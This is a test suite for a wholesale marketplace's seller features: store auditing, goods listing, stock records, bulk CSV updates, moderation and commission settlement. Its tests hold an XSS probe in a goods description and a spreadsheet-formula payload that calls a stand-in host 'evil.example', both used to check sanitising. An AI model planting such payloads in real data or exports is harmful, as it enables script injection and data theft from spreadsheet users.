import { FLOW_TYPES } from '@wm/contracts';
import { sql } from 'drizzle-orm';
import Papa from 'papaparse';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../../db/client';
import { call, createTestApp, DEMO, latestCode, login, newMobile, requestCode, upload, type TestApp } from '../../../test/helpers';
import { submit } from '../purchase-orders/orders.test-support';
import { newKey, paymentHelpers } from '../payments/payments.test-support';
import { seedMerchant } from './seller.seed';

let t: TestApp;
const h = paymentHelpers(() => t);
let operator: string;
let leafCategory: number;
beforeAll(async () => {
  t = await createTestApp({ limits: { loginMaxFailures: 10, ipMaxFailures: 50, lockMinutes: 15, smsPerIpPerHour: 10_000 } });
  operator = await login(t.app, DEMO.operator);
  leafCategory = (await rows<{ id: number }>(t.database.db, sql`select category_id as id from goods order by id limit 1`))[0]!.id;
});
afterAll(() => t.close());

const get = (token: string, url: string, query?: Record<string, string>) => call(t.app, 'GET', url, { token, query });
const post = (token: string, url: string, body?: object) => call(t.app, 'POST', url, { token, body, headers: { 'idempotency-key': newKey() } });
const put = (token: string, url: string, body: object) => call(t.app, 'PUT', url, { token, body });

async function registerSeller() {
  const mobile = newMobile();
  const code = await requestCode(t.app, { mobile });
  const res = await call(t.app, 'POST', '/api/v2/auth/register-seller', { body: { mobile, code, password: 'secret123', confirmPassword: 'secret123', agree: true } });
  expect(res.statusCode).toBe(200);
  return { mobile, token: res.body.data.token.token as string, userId: res.body.data.user.id as number };
}

const storeBody = (name: string, submitNow = true) => ({
  name, intro: 'Solid oak furniture made in Foshan', contactName: 'Li Wei', contactPhone: '+86 138 0000 1234', contactEmail: 'shop@example.com',
  warehouseType: 'platform', shippingAreas: ['US', 'CA'], returnGuarantee: 'standard', logisticsGuarantee: true, submit: submitNow,
});
let codeSeq = 0;
const goodsBody = (over: Record<string, unknown> = {}) => ({
  itemCode: `MC-${process.pid}-${++codeSeq}`, name: { en: `Oak console table ${process.pid}-${codeSeq}`, zh: '橡木玄关桌', ja: 'オーク材コンソールテーブル' },
  description: { en: '<p>Solid <b>oak</b><script>alert(1)</script></p>' }, categoryId: leafCategory, productType: 'general',
  images: ['/api/v2/media/u/1/merchantImage/00000000-0000-0000-0000-000000000000.jpg'], priceMode: 'tiered',
  tiers: [{ minQty: 2, maxQty: 9, unitPrice: 120 }, { minQty: 10, maxQty: null, unitPrice: 100 }], moq: 2,
  productSize: { length: 47.2, width: 15.7, height: 31.5, weight: 41.9 }, packageSize: { length: 50, width: 18, height: 8, weight: 48.5 },
  logisticsFee: 35, operatingFee: 3.5, storageFee: 1.2, mainColor: 'Natural oak', material: 'Oak', sellingPoints: ['Solid wood'],
  allowedPlatforms: ['Amazon'], restrictedPlatforms: ['Temu'], shippingAreas: ['US'], warehouseType: 'platform', shipFrom: 'Ontario, CA', referenceDays: 5,
  lowStockThreshold: 5, ...over,
});

/** A seller with an approved store. */
async function approvedSeller() {
  const s = await registerSeller();
  const store = (await put(s.token, '/api/v2/seller/store', storeBody(`Approved ${s.mobile}`))).body.data;
  expect((await post(operator, `/api/v2/admin/stores/${store.storeId}/approve`)).statusCode).toBe(200);
  return { ...s, storeId: store.storeId as number };
}

const search = async (keyword: string) => (await call(t.app, 'POST', '/api/v2/goods/list', { body: { keyword } })).body.data.list as { goodsId: number }[];

describe('store', () => {
  it('is created by a new seller, audited by the operator, and public only once approved', async () => {
    const s = await registerSeller();
    expect((await get(s.token, '/api/v2/seller/store')).body.data).toEqual({ store: null });
    expect((await get(s.token, '/api/v2/seller/goods/list')).body.data.code).toBe('STORE_REQUIRED');

    const draft = await put(s.token, '/api/v2/seller/store', storeBody(`Foshan Oak ${s.mobile}`, false));
    expect(draft.body.data).toMatchObject({ auditStatus: 'draft', open: false, actions: ['submit'], storeCode: expect.stringMatching(/^ST\d+$/) });
    const submitted = await put(s.token, '/api/v2/seller/store', storeBody(`Foshan Oak ${s.mobile}`));
    expect(submitted.body.data).toMatchObject({ storeId: draft.body.data.storeId, auditStatus: 'pending', actions: [] });
    const storeId = submitted.body.data.storeId;
    const listed = async () => (await call(t.app, 'POST', '/api/v2/store/list', { body: { keyword: `Foshan Oak ${s.mobile}` } })).body.data.total;
    expect(await listed()).toBe(0);
    expect((await call(t.app, 'GET', `/api/v2/store/${storeId}`)).body.data.closed).toBe(true);

    // Nobody else audits, and a buyer or the seller is refused.
    expect((await post(s.token, `/api/v2/admin/stores/${storeId}/approve`)).statusCode).toBe(403);
    const pending = await get(operator, '/api/v2/admin/stores', { auditStatus: 'pending', keyword: s.mobile.slice(-8) });
    expect(pending.body.data.list.map((x: { storeId: number }) => x.storeId)).toContain(storeId);

    const rejected = await post(operator, `/api/v2/admin/stores/${storeId}/reject`, { reason: 'The logo is blurred' });
    expect(rejected.body.data).toMatchObject({ auditStatus: 'rejected', rejectReason: 'The logo is blurred' });
    expect((await post(operator, `/api/v2/admin/stores/${storeId}/approve`)).body.data.code).toBe('STORE_INVALID_TRANSITION');
    const again = await put(s.token, '/api/v2/seller/store', storeBody(`Foshan Oak ${s.mobile}`));
    expect(again.body.data).toMatchObject({ auditStatus: 'pending', rejectReason: null });
    const approved = await post(operator, `/api/v2/admin/stores/${storeId}/approve`);
    expect(approved.body.data).toMatchObject({ auditStatus: 'approved', open: true, ownerMobile: expect.stringContaining(s.mobile.slice(-8)) });
    expect(await listed()).toBe(1);
    const messages = (await get(s.token, '/api/v2/message/list')).body.data.list.map((m: { title: string }) => m.title);
    expect(messages).toEqual(expect.arrayContaining(['Your store is approved', 'Your store was not approved']));
  });

  it('is refused to a buyer account', async () => {
    const b = await h.approvedBuyer();
    expect((await get(b.token, '/api/v2/seller/store')).statusCode).toBe(403);
  });
});

describe('goods', () => {
  it('are created to be shelved, shelved only in an approved store, found in search at once, pulled off and gone', async () => {
    const s = await registerSeller();
    await put(s.token, '/api/v2/seller/store', storeBody(`Shelving ${s.mobile}`));
    const created = await post(s.token, '/api/v2/seller/goods', goodsBody());
    expect(created.statusCode).toBe(200);
    const g = created.body.data;
    expect(g).toMatchObject({ status: 'toBeShelved', actions: ['putOnSale'], priceMin: 100, priceMax: 120, moq: 2, lowStock: true, stock: { available: 0 } });
    expect(g.description.en).toBe('<p>Solid <b>oak</b></p>');
    expect(g.name.zh).toBe('橡木玄关桌');
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`)).body.data.code).toBe('STORE_NOT_APPROVED');

    await post(operator, `/api/v2/admin/stores/${(await get(s.token, '/api/v2/seller/store')).body.data.store.storeId}/approve`);
    // Warm the catalog's cache: the change must still show at once.
    expect(await search(g.itemCode)).toEqual([]);
    const shelved = await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    expect(shelved.body.data).toMatchObject({ storedStatus: 'onSale', status: 'soldOut', actions: ['pullOff'] });
    expect((await search(g.itemCode)).map((x) => x.goodsId)).toEqual([g.goodsId]);
    // The goods page shows every field to an approved buyer, tiers and all.
    const buyer = await h.approvedBuyer();
    const page = (await get(buyer.token, `/api/v2/goods/${g.goodsId}`)).body.data;
    expect(page).toMatchObject({ itemCode: g.itemCode, moq: 2, tiers: [{ minQty: 2, maxQty: 9, unitPrice: 120 }, { minQty: 10, maxQty: null, unitPrice: 100 }], images: g.images, mainColor: 'Natural oak', restrictedPlatforms: ['Temu'] });
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`)).body.data.code).toBe('GOODS_INVALID_TRANSITION');

    const stocked = await post(s.token, `/api/v2/seller/goods/${g.goodsId}/stock`, { mode: 'add', quantity: 40, reason: 'Container arrived' });
    expect(stocked.body.data.goods).toMatchObject({ status: 'onSale', lowStock: false, stock: { available: 40 } });

    const edited = await put(s.token, `/api/v2/seller/goods/${g.goodsId}`, goodsBody({ itemCode: g.itemCode, name: { en: `Walnut console ${s.mobile}` }, priceMode: 'spot', price: 99.5, tiers: [] }));
    expect(edited.body.data).toMatchObject({ priceMode: 'spot', price: 99.5, tiers: [], name: { zh: `Walnut console ${s.mobile}` } });
    expect((await search(`Walnut console ${s.mobile}`)).map((x) => x.goodsId)).toEqual([g.goodsId]);

    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/pull-off`);
    expect(await search(g.itemCode)).toEqual([]);
  });

  it('keep item codes unique, categories at the last level, and other stores out', async () => {
    const a = await approvedSeller();
    const b = await approvedSeller();
    const g = (await post(a.token, '/api/v2/seller/goods', goodsBody())).body.data;
    const dup = await post(b.token, '/api/v2/seller/goods', goodsBody({ itemCode: g.itemCode }));
    expect(dup.body).toMatchObject({ status: 400, message: 'commodity code duplication' });
    const [top] = await rows<{ id: number }>(t.database.db, sql`select id from product_categories where parent_id is null order by id limit 1`);
    expect((await post(a.token, '/api/v2/seller/goods', goodsBody({ categoryId: top!.id }))).body.data.errors?.[0] ?? {}).toMatchObject({ field: 'categoryId' });
    expect((await get(b.token, `/api/v2/seller/goods/${g.goodsId}`)).statusCode).toBe(404);
    expect((await put(b.token, `/api/v2/seller/goods/${g.goodsId}`, goodsBody())).statusCode).toBe(404);
    expect((await post(b.token, `/api/v2/seller/goods/${g.goodsId}/stock`, { mode: 'add', quantity: 1, reason: 'x' })).statusCode).toBe(404);
    const batch = await post(b.token, '/api/v2/seller/goods/batch-shelve', { goodsIds: [g.goodsId] });
    expect(batch.body.data).toMatchObject({ done: [], failed: [{ goodsId: g.goodsId }] });
    expect((await post(a.token, '/api/v2/seller/goods/batch-shelve', { goodsIds: [g.goodsId] })).body.data.done).toEqual([g.goodsId]);
  });

  it('list by status and stock, and export as CSV', async () => {
    const s = await approvedSeller();
    const one = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    const two = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    await post(s.token, `/api/v2/seller/goods/${two.goodsId}/stock`, { mode: 'set', quantity: 50, reason: 'Count' });
    await post(s.token, `/api/v2/seller/goods/${two.goodsId}/shelve`);
    await post(s.token, `/api/v2/seller/goods/${one.goodsId}/shelve`);
    const ids = async (query: Record<string, string>) => (await get(s.token, '/api/v2/seller/goods/list', query)).body.data.list.map((g: { goodsId: number }) => g.goodsId);
    expect(await ids({})).toEqual([one.goodsId, two.goodsId]);
    expect(await ids({ status: 'soldOut' })).toEqual([one.goodsId]);
    expect(await ids({ status: 'onSale' })).toEqual([two.goodsId]);
    expect(await ids({ stock: 'lowStock' })).toEqual([one.goodsId]);
    expect(await ids({ keyword: two.itemCode })).toEqual([two.goodsId]);
    const csv = await t.app.inject({ method: 'GET', url: '/api/v2/seller/goods/export', headers: { authorization: `Bearer ${s.token}` } });
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body).toContain(two.itemCode);
    expect(csv.body.split('\n').filter(Boolean)).toHaveLength(3);
  });

  it('exports a goods whose texts are spreadsheet formulas as plain text, in its CSV and its spec sheet', async () => {
    const s = await approvedSeller();
    const evil = { en: '=HYPERLINK("http://evil.example/?"&A1,"Open")', zh: '+橡木', ja: '@オーク' };
    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody({ name: evil, material: '-2+3', mainColor: '=1+1' }))).body.data;
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    const rowsOf = (body: string) => Papa.parse<string[]>(body.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    const exported = rowsOf((await t.app.inject({ method: 'GET', url: '/api/v2/seller/goods/export', headers: { authorization: `Bearer ${s.token}` } })).body);
    const [header, row] = exported;
    expect(row![header!.indexOf('name')]).toBe(`'${evil.en}`);
    expect(row![header!.indexOf('itemCode')]).toBe(g.itemCode);
    const sheet = await t.app.inject({ method: 'GET', url: `/api/v2/goods/file/${g.goodsId}/spec-sheet.csv` });
    expect(sheet.statusCode).toBe(200);
    const fields = Object.fromEntries(rowsOf(sheet.body).slice(1) as [string, string][]);
    expect(fields).toMatchObject({ Name: `'${evil.en}`, Material: "'-2+3", 'Main colour': "'=1+1", 'Item code': g.itemCode });
    expect(sheet.body.split('\r\n').some((line) => /(^|,)[=+\-@]/.test(line))).toBe(false);
  });
});

describe('stock', () => {
  it('is set, added and subtracted with a reason, each change a record; never below zero; a replay changes nothing', async () => {
    const s = await approvedSeller();
    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    const change = (body: object, key = newKey()) => call(t.app, 'POST', `/api/v2/seller/goods/${g.goodsId}/stock`, { token: s.token, body, headers: { 'idempotency-key': key } });
    expect((await change({ mode: 'set', quantity: 10, reason: 'Stocktake' })).body.data.record).toMatchObject({ mode: 'set', change: 10, availableAfter: 10, warehouse: 'Platform warehouse (US)' });
    const key = newKey();
    expect((await change({ mode: 'add', quantity: 5, reason: 'Arrival' }, key)).body.data.goods.stock.available).toBe(15);
    expect((await change({ mode: 'add', quantity: 5, reason: 'Arrival' }, key)).body.data.goods.stock.available).toBe(15);
    const short = await change({ mode: 'subtract', quantity: 16, reason: 'Damaged' });
    expect(short.body).toMatchObject({ status: 400, message: 'insufficient inventory in the store' });
    expect((await change({ mode: 'subtract', quantity: 12, reason: 'Damaged' })).body.data.goods).toMatchObject({ stock: { available: 3 }, lowStock: true });
    expect((await change({ mode: 'add', quantity: 1, reason: '' })).statusCode).toBe(400);
    const records = (await get(s.token, '/api/v2/seller/stock/records', { goodsId: String(g.goodsId) })).body.data;
    expect(records.list.map((r: { change: number; reason: string }) => [r.change, r.reason])).toEqual([[-12, 'Damaged'], [5, 'Arrival'], [10, 'Stocktake']]);
    const dashboard = (await get(s.token, '/api/v2/seller/dashboard')).body.data;
    expect(dashboard.pending.find((p: { kind: string }) => p.kind === 'lowStock').count).toBe(1);
  });
});

async function bulk(token: string, csv: string | Buffer, dryRun: boolean, key = newKey()) {
  const boundary = `----wm${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="prices.csv"\r\nContent-Type: text/csv\r\n\r\n`),
    Buffer.isBuffer(csv) ? csv : Buffer.from(csv),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const res = await t.app.inject({ method: 'POST', url: `/api/v2/seller/goods/bulk-update?dryRun=${dryRun}`, payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, authorization: `Bearer ${token}`, 'idempotency-key': key } });
  return { statusCode: res.statusCode, body: res.json() };
}

describe('bulk price and stock', () => {
  it('reports every problem of every row, changes nothing until all are good, then applies all with stock records', async () => {
    const s = await approvedSeller();
    const other = await approvedSeller();
    const spot = (await post(s.token, '/api/v2/seller/goods', goodsBody({ priceMode: 'spot', price: 10, tiers: [], moq: 1 }))).body.data;
    const tiered = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    const foreign = (await post(other.token, '/api/v2/seller/goods', goodsBody())).body.data;
    const bad = `itemCode,price,stock\n${spot.itemCode},12.345,5\n${tiered.itemCode},99,-1\n${foreign.itemCode},,3\n`;
    const report = await bulk(s.token, bad, false);
    expect(report.body.data).toMatchObject({ applied: false, problemCount: 4 });
    expect(report.body.data.rows.map((r: { row: number; problems: string[] }) => [r.row, r.problems])).toEqual([
      [2, ['The price must be a number of dollars with at most two decimals']],
      [3, ['This goods has tiered prices: change them in the goods editor', 'The stock must be a whole number, 0 or more']],
      [4, ['No goods of your store has this item code']],
    ]);
    expect((await get(s.token, `/api/v2/seller/goods/${spot.goodsId}`)).body.data).toMatchObject({ price: 10, stock: { available: 0 } });

    const good = `itemCode,price,stock\n${spot.itemCode},12.5,40\n${tiered.itemCode},,7\n`;
    const dry = await bulk(s.token, good, true);
    expect(dry.body.data).toMatchObject({ dryRun: true, applied: false, problemCount: 0 });
    expect((await get(s.token, `/api/v2/seller/goods/${spot.goodsId}`)).body.data.stock.available).toBe(0);
    const key = newKey();
    expect((await bulk(s.token, good, false, key)).body.data).toMatchObject({ applied: true, problemCount: 0 });
    expect((await bulk(s.token, good, false, key)).body.data.applied).toBe(true);
    expect((await get(s.token, `/api/v2/seller/goods/${spot.goodsId}`)).body.data).toMatchObject({ price: 12.5, priceMin: 12.5, stock: { available: 40 } });
    expect((await get(s.token, `/api/v2/seller/goods/${tiered.goodsId}`)).body.data.stock.available).toBe(7);
    const records = (await get(s.token, '/api/v2/seller/stock/records')).body.data.list;
    expect(records.map((r: { reason: string; change: number }) => [r.reason, r.change])).toEqual([['Bulk upload', 7], ['Bulk upload', 40]]);

    expect((await bulk(s.token, 'sku,qty\nA,1\n', true)).body.data.errors[0].message).toBe('Row 1 must name the columns: itemCode, and price and/or stock');
    expect((await bulk(s.token, Buffer.from([0xff, 0xfe, 0x00, 0x01]), true)).statusCode).toBe(400);
  });
});

describe('operator moderation', () => {
  it('flags a violation with a reason, removes and restores; the seller cannot undo a violation', async () => {
    const s = await approvedSeller();
    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/stock`, { mode: 'set', quantity: 5, reason: 'Count' });
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    expect((await search(g.itemCode)).length).toBe(1);
    expect((await post(s.token, `/api/v2/admin/goods/${g.goodsId}/violation`, { reason: 'x' })).statusCode).toBe(403);
    const flagged = await post(operator, `/api/v2/admin/goods/${g.goodsId}/violation`, { reason: 'Counterfeit brand' });
    expect(flagged.body.data).toMatchObject({ storedStatus: 'violation', violationReason: 'Counterfeit brand', operatorActions: ['remove', 'restore'] });
    expect(await search(g.itemCode)).toEqual([]);
    const mine = (await get(s.token, `/api/v2/seller/goods/${g.goodsId}`)).body.data;
    expect(mine).toMatchObject({ status: 'violation', actions: [] });
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`)).body.data.code).toBe('GOODS_INVALID_TRANSITION');
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/pull-off`)).body.data.code).toBe('GOODS_INVALID_TRANSITION');
    expect((await post(operator, `/api/v2/admin/goods/${g.goodsId}/remove`, { reason: 'Repeated' })).body.data.storedStatus).toBe('removed');
    expect((await put(s.token, `/api/v2/seller/goods/${g.goodsId}`, goodsBody({ itemCode: g.itemCode }))).statusCode).toBe(409);
    expect((await post(operator, `/api/v2/admin/goods/${g.goodsId}/restore`)).body.data).toMatchObject({ storedStatus: 'offShelves', violationReason: null });
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`)).body.data.status).toBe('onSale');
    const list = (await get(operator, '/api/v2/admin/goods', { storeId: String(s.storeId) })).body.data;
    expect(list.list[0]).toMatchObject({ goodsId: g.goodsId, storeId: s.storeId });
  });
});

describe('media', () => {
  it('serves an uploaded store or goods picture publicly, and nothing else', async () => {
    const s = await registerSeller();
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#b08050' } }).png().toBuffer();
    const up = await upload(t.app, s.token, 'merchantImage', png, 'sofa.png');
    expect(up.statusCode).toBe(200);
    const res = await t.app.inject({ method: 'GET', url: `/api/v2/media/${up.body.data.key}` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/png');
    const avatar = await upload(t.app, s.token, 'avatar', png, 'me.png');
    expect((await t.app.inject({ method: 'GET', url: `/api/v2/media/${avatar.body.data.key}` })).statusCode).toBe(404);
  });
});

describe('revenue and credit', () => {
  it('a completed order credits the store its goods amount less the category commission, once; the dashboard counts it', async () => {
    const s = await approvedSeller();
    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody({ priceMode: 'spot', price: 80, tiers: [], moq: 1 }))).body.data;
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/stock`, { mode: 'set', quantity: 10, reason: 'Count' });
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    // This category pays 8%.
    const settings = (await get(operator, '/api/v2/admin/merchant-settings')).body.data;
    expect(settings.defaultCommissionPercent).toBe(5);
    await put(operator, '/api/v2/admin/merchant-settings', { defaultCommissionPercent: 5, defaultCreditLimit: 0, rates: [{ categoryId: leafCategory, percent: 8 }] });

    const b = await h.approvedBuyer();
    await h.setPayPassword(b.token, b.mobile);
    await h.fund(b.token, 1000);
    const no = (await submit(t, b.token, { goodsId: g.goodsId, quantity: 3 }, newKey())).body.data.orderNos[0];
    const paid = await call(t.app, 'POST', '/api/v2/pay/balance-pay', { token: b.token, body: { refs: [no], payPassword: '135790', declaration: true }, headers: { 'idempotency-key': newKey() } });
    expect(paid.statusCode).toBe(200);

    const ledger = (await get(s.token, '/api/v2/wallet/record', {})).body.data;
    const records = ledger.list ?? ledger;
    void records;
    const entries = await rows<{ flowType: number; amountCents: number }>(t.database.db, sql`select flow_type as "flowType", amount_cents::float8 as "amountCents" from wallet_ledger where user_id = ${s.userId} order by id`);
    expect(entries).toEqual([{ flowType: FLOW_TYPES.transactionRevenue, amountCents: 24000 }, { flowType: FLOW_TYPES.settlementExpense, amountCents: -1920 }]);
    await h.reconciled(s.userId);
    // Settling the same order again (a retried completion) changes nothing.
    await t.database.db.transaction(async (tx) => t.app.services.seller.settle(tx, [{ id: (await rows<{ id: number }>(tx, sql`select id::float8 as id from purchase_orders where order_no = ${no}`))[0]!.id, orderNo: no, storeId: s.storeId, goodsAmountCents: 24000, discountCents: 0, lines: [{ goodsId: g.goodsId, quantity: 3, amountCents: 24000 }] }]));
    expect((await rows(t.database.db, sql`select 1 from wallet_ledger where user_id = ${s.userId}`)).length).toBe(2);

    const dashboard = (await get(s.token, '/api/v2/seller/dashboard')).body.data;
    expect(dashboard.today).toEqual({ orders: 1, sales: 240, units: 3 });
    expect(dashboard.last30Days).toEqual({ orders: 1, sales: 240, units: 3 });
    expect(dashboard.daily).toHaveLength(30);
    expect(dashboard.topGoods[0]).toMatchObject({ goodsId: g.goodsId, units: 3, sales: 240 });
    expect(dashboard.wallet).toMatchObject({ balance: 220.8, creditHold: false });
    await put(operator, '/api/v2/admin/merchant-settings', { defaultCommissionPercent: 5, defaultCreditLimit: 0, rates: [] });
  });

  it('a store below minus its credit limit has its goods pulled off and is told; shelving waits for the balance', async () => {
    const s = await approvedSeller();
    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody())).body.data;
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/stock`, { mode: 'set', quantity: 10, reason: 'Count' });
    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    expect((await post(operator, `/api/v2/admin/stores/${s.storeId}/credit-limit`, { creditLimit: 50 })).body.data.creditLimit).toBe(50);
    // A charge it could not cover (an after-sales guarantee): -$40 is within the limit, -$60 is not.
    await t.database.db.execute(sql`insert into wallets (user_id, balance_cents) values (${s.userId}, -4000) on conflict (user_id) do update set balance_cents = -4000`);
    expect(await t.database.db.transaction((tx) => t.app.services.seller.enforceCreditLimit(tx, s.storeId))).toBe(false);
    expect((await search(g.itemCode)).length).toBe(1);
    await t.database.db.execute(sql`update wallets set balance_cents = -6000 where user_id = ${s.userId}`);
    expect(await t.database.db.transaction((tx) => t.app.services.seller.enforceCreditLimit(tx, s.storeId))).toBe(true);
    expect(await search(g.itemCode)).toEqual([]);
    expect((await get(s.token, `/api/v2/seller/goods/${g.goodsId}`)).body.data.status).toBe('offShelves');
    const refused = await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
    expect(refused.body).toMatchObject({ status: 400, data: { code: 'STORE_CREDIT_HOLD' } });
    expect(refused.body.message).toContain('$50.00');
    const told = (await get(s.token, '/api/v2/message/list')).body.data.list[0];
    expect(told).toMatchObject({ title: 'Your goods were pulled off shelves' });
    expect(told.content).toContain('-$60.00');
    await t.database.db.execute(sql`update wallets set balance_cents = 100 where user_id = ${s.userId}`);
    expect(await t.database.db.transaction((tx) => t.app.services.seller.enforceCreditLimit(tx, s.storeId))).toBe(false);
    expect((await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`)).body.data.status).toBe('onSale');
  });
});

describe('demo', () => {
  it("settles the demo store's completed history to its wallet once, and fills its profile", async () => {
    const [seller] = await rows<{ id: number }>(t.database.db, sql`select id from users where mobile = '+8613800000003'`);
    const before = await rows(t.database.db, sql`select 1 from wallet_ledger where user_id = ${seller!.id} and flow_type = ${FLOW_TYPES.transactionRevenue}`);
    await seedMerchant(t.app.services, t.database, { sellerUserId: seller!.id });
    const after = await rows(t.database.db, sql`select 1 from wallet_ledger where user_id = ${seller!.id} and flow_type = ${FLOW_TYPES.transactionRevenue}`);
    expect(after.length).toBeGreaterThan(before.length);
    await seedMerchant(t.app.services, t.database, { sellerUserId: seller!.id });
    expect((await rows(t.database.db, sql`select 1 from wallet_ledger where user_id = ${seller!.id} and flow_type = ${FLOW_TYPES.transactionRevenue}`)).length).toBe(after.length);
    await h.reconciled(seller!.id);
    const store = (await get(await login(t.app, DEMO.seller), '/api/v2/seller/store')).body.data.store;
    expect(store).toMatchObject({ auditStatus: 'approved', open: true, contactName: 'Li Wei' });
  });
});
void latestCode;
